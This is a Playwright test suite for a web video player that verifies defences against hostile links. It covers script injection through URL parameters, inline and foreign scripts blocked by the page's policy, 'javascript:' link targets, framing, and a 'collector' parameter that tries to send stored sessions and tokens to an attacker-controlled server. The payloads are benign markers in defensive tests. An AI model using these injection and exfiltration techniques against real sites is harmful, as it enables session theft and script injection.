/** Links made by an attacker: parameters of the page's address, in Chromium. */

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { hasChromium, launch, open } from './browser.ts';
import { TestServer } from './test-server.ts';

const MISSING = '/video/none.mp4';

describe('a hostile link', { skip: hasChromium ? false : 'needs Chromium', concurrency: 2, timeout: 60_000 }, () => {
  let browser: Browser;
  before(async () => {
    browser = await launch();
  });
  after(() => browser?.close());

  /** Runs a test with the page's server and the attacker's. */
  async function visit(act: (page: Page, own: TestServer, evil: TestServer) => Promise<void>): Promise<void> {
    const own = await TestServer.start({ '/': 'dist' });
    const evil = await TestServer.start({});
    evil.allowsOrigins = true;
    const { page, context, errors } = await open(browser);
    try {
      await act(page, own, evil);
      assert.deepEqual(errors, []);
    } finally {
      await context.close();
      await own.stop();
      await evil.stop();
    }
  }

  /** Plays a missing file, whose session fails at once. */
  async function fail(page: Page, address: string): Promise<void> {
    await page.goto(address);
    await page.getByLabel('Address of').fill(new URL(MISSING, address).href);
    await page.getByRole('button', { name: 'Play', exact: true }).click();
    await page.locator('#phase[data-phase=failed]').waitFor();
  }

  test('names a script for the page: it does not run', async () => {
    await visit(async (page, own, evil) => {
      evil.put('/api.js', 'text/javascript', 'window.hit = true; document.title = "hit";');
      const requested: string[] = [];
      page.on('request', (request) => requested.push(request.url()));
      await page.route('https://www.youtube.com/iframe_api', (route) => route.abort());
      const video = new URLSearchParams({
        'youtube-api': `${evil.origin}/api.js`,
        src: 'onXpKXbnbE0',
        kind: 'youtube',
      });
      await page.goto(`${own.origin}/?${video}&autoplay`);
      await page.getByText('YouTube player API unreachable').waitFor();
      assert.ok(!requested.some((url) => url.startsWith(evil.origin)));
      assert.equal(await page.evaluate('window.hit'), undefined);
    });
  });

  test('injects no script: the policy of the page blocks inline and foreign scripts', async () => {
    await visit(async (page, own, evil) => {
      evil.put('/x.js', 'text/javascript', 'window.hit = true;');
      await page.goto(own.origin);
      const blocked = await page.evaluate(`new Promise((resolve) => {
        const blocked = [];
        addEventListener('securitypolicyviolation', (event) => {
          blocked.push(event.effectiveDirective);
          if (blocked.length === 4) resolve(blocked.sort());
        });
        document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.hit = true">');
        for (const [name, value] of [['textContent', 'window.hit = true'], ['src', '${evil.origin}/x.js']])
          document.head.append(Object.assign(document.createElement('script'), { [name]: value }));
        document.head.append(Object.assign(document.createElement('base'), { href: '${evil.origin}' }));
      })`);
      assert.deepEqual(blocked, ['base-uri', 'script-src-attr', 'script-src-elem', 'script-src-elem']);
      assert.equal(await page.evaluate('window.hit'), undefined);
    });
  });

  test('names a collector: it gets sessions only after a click that names it, and no token', async () => {
    await visit(async (page, own, evil) => {
      own.collector = 'down';
      await fail(page, own.origin);
      await page.getByText('1 session stored in this browser').waitFor();
      const link = `${own.origin}/?collector=${encodeURIComponent(`${evil.origin}/api/sessions`)}`;
      await fail(page, link);
      await page.getByText('2 sessions stored in this browser; the collector is not confirmed').waitFor();
      // A change of another setting neither confirms nor stores it.
      await page.getByText('Settings').click();
      await page.getByLabel('Session label').fill('bus');
      await page.keyboard.press('Tab');
      await page.goto(own.origin);
      await page.waitForTimeout(500);
      await page.goto('about:blank');
      assert.equal(evil.posted.length + own.posted.length, 0);

      // The answer "no" keeps the own collector.
      await page.goto(link);
      const question = page.getByRole('region', { name: 'Send sessions to this collector?' });
      assert.match(await question.innerText(), new RegExp(`${evil.origin}/api/sessions`));
      await question.getByRole('button', { name: 'Do not send' }).click();
      await question.waitFor({ state: 'hidden' });
      own.collector = 'up';
      await page.getByText('Settings').click();
      await page.getByLabel('Collector token').fill('secret');
      await page.keyboard.press('Tab');
      while (own.posted.length < 2) await page.waitForTimeout(50);
      assert.equal(evil.posted.length, 0);

      // The answer "yes" sends, without the token of the other origin.
      await fail(page, link);
      await page.getByRole('button', { name: 'Send sessions there' }).click();
      while (evil.posted.length === 0) await page.waitForTimeout(50);
      assert.equal(evil.posted.at(0)?.authorization, null);
      assert.equal(own.posted.length, 2);
    });
  });

  test('names a collector used before its field was emptied: it gets sessions only after a click', async () => {
    await visit(async (page, own, evil) => {
      const links = [`${evil.origin}/api/sessions`, '/api/sessions'].map(
        (collector) => `${own.origin}/?collector=${encodeURIComponent(collector)}`,
      );
      await page.goto(links[0] ?? '');
      await page.getByRole('button', { name: 'Send sessions there' }).click();
      await page.goto(own.origin);
      await page.getByText('Settings').click();
      await page.getByLabel('Session collector').fill('');
      await page.keyboard.press('Tab');
      for (const [index, link] of links.entries()) {
        await fail(page, link);
        const stored = `${index + 1} session${index === 0 ? '' : 's'} stored in this browser`;
        await page.getByText(`${stored}; the collector is not confirmed`).waitFor();
      }
      assert.deepEqual([...evil.posted, ...own.posted], []);
    });
  });

  test('names a server that answers everything with success: sessions stay in the browser', async () => {
    await visit(async (page, own, evil) => {
      evil.answer = { id: 'another' };
      await fail(page, `${own.origin}/?collector=${encodeURIComponent(`${evil.origin}/api/sessions`)}`);
      await page.getByRole('button', { name: 'Send sessions there' }).click();
      await page.getByText('the answer does not name the session').waitFor();
      assert.equal(evil.posted.length, 1);
      assert.equal(await page.getByText('1 session stored in this browser').count(), 1);
    });
  });

  test('names a collector whose answer is a script: it becomes no link', async () => {
    await visit(async (page, own) => {
      for (const url of ['javascript:window.hit=1', 'https://evil.example/', 'data:text/html,x', '//evil.example']) {
        own.answer = { url };
        await fail(page, own.origin);
        await page.getByText('Session delivered to the collector').waitFor();
        assert.equal(await page.locator('#delivery a').count(), 0, url);
      }
      own.answer = { url: '/sessions/x' };
      await fail(page, own.origin);
      await page.locator(`#delivery a[href="${own.origin}/sessions/x"]`).waitFor();
      // The same for the addresses of the collector's pages.
      await page.goto(`${own.origin}/?collector=javascript:window.hit=1//`);
      assert.match((await page.locator('#sessions-link').getAttribute('href')) ?? '', /^http:/);
      assert.ok(await page.locator('#collector-question').isHidden());
    });
  });

  test('redirects the record: it is not sent on', async () => {
    await visit(async (page, own, evil) => {
      own.redirect = `${evil.origin}/api/sessions`;
      await fail(page, own.origin);
      await page.getByText('1 session stored in this browser').waitFor();
      await page.waitForTimeout(300);
      assert.deepEqual(evil.posted, []);
    });
  });

  test('redirects the record of a page that is left: it is not sent on', async () => {
    await visit(async (page, own, evil) => {
      own.profile = (path) => (path === MISSING ? { delayMs: 60_000 } : {});
      own.redirect = `${evil.origin}/api/sessions`;
      await page.goto(own.origin);
      await page.getByLabel('Address of').fill(MISSING);
      await page.getByRole('button', { name: 'Play', exact: true }).click();
      await page.locator('#phase[data-phase=loading]').waitFor();
      await page.goto('about:blank');
      while (own.redirected === 0) await page.waitForTimeout(50);
      // The next page sends the record to the collector itself.
      own.redirect = null;
      await page.goto(own.origin);
      while (own.posted.length === 0) await page.waitForTimeout(50);
      assert.deepEqual(evil.posted, []);
    });
  });

  test('in a frame cannot ask for a collector', async () => {
    await visit(async (page, own, evil) => {
      const link = `${own.origin}/?collector=${encodeURIComponent(`${evil.origin}/api/sessions`)}`;
      evil.put('/', 'text/html', `<iframe src="${link}" width="800" height="600"></iframe>`);
      await page.goto(evil.origin);
      const frame = page.frameLocator('iframe');
      await frame.getByLabel('Address of').waitFor();
      assert.ok(await frame.locator('#collector-question').isHidden());
    });
  });
});
